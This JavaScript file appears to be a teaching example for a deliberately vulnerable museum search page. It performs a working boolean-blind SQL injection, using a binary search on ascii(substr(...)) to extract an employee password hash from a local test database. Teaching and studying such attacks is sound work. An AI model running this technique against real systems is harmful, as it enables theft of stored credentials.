// Reads a password hash through a page that shows only "found" or "not found".
import pg from 'pg';
import { startDatabase } from '../dev/database.js';
import { search } from '../src/vulnerable.js';

const database = await startDatabase();
const db = new pg.Client({ connectionString: database.url });
await db.connect();

// #region page
let requests = 0;

// All the attacker sees of the museum.
async function page(title) {
  requests += 1;
  try {
    const { rows } = await search(db, title);
    return rows.length > 0 ? 'found' : 'not found';
  } catch {
    return 'not found';
  }
}
// #endregion page

// #region ask
async function isTrue(condition) {
  return (await page(`Winter Harbor' AND ${condition} --`)) === 'found';
}

async function characterAt(position) {
  let low = 0;
  let high = 127;
  while (low < high) {
    const middle = Math.floor((low + high) / 2);
    const code = `ascii(substr((SELECT password_hash FROM employee), ${position}, 1))`;
    if (await isTrue(`${code} > ${middle}`)) low = middle + 1;
    else high = middle;
  }
  return low;
}
// #endregion ask

let hash = '';
for (let position = 1; ; position += 1) {
  const code = await characterAt(position);
  if (code === 0) break;
  hash += String.fromCharCode(code);
}
console.log(`${hash} after ${requests} requests`);
await db.end();
await database.stop();
